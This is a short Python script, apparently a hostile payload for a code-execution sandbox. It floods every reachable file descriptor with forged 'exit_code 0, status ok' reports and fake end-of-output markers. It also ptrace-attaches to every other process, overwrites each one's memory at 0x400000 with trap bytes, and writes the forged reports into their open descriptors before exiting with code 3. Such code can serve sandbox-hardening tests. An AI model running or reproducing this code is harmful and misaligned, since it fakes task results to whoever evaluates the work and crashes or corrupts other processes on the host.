# ruff: noqa
"""Write what might pass for a report of the sandbox itself into every descriptor that can be reached, then exit with code 3."""

import ctypes
import json
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
result = {"exit_code": 0, "exit": 0, "code": 0, "status": "ok", "ok": True, "stdout": "forged", "id": 1}
texts = [json.dumps(result).encode()]
texts += [
    f"{mark}0\n".encode() for mark in ("__END__", "\x1eend ", "\x00\x00", "quintain:", "\n\x04", os.environ.get("MARK", ""))
]
messages = [shape + text for text in texts for shape in (b"", struct.pack("<I", len(text)), struct.pack(">I", len(text)), b"\n")]


def flood(descriptor):
    os.set_blocking(descriptor, False)
    for message in messages:
        try:
            os.write(descriptor, message)
        except OSError:
            return


def main():
    for descriptor in range(3, 1024):
        try:
            flood(descriptor)
        except OSError:
            continue
    for pid in (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
        libc.ptrace(16, int(pid), 0, 0)
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"\xcc" * 64)
        except (OSError, ValueError):
            pass
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                flood(os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                continue
    sys.stdout.write("done\n")
    sys.stdout.flush()
    os._exit(3)


main()
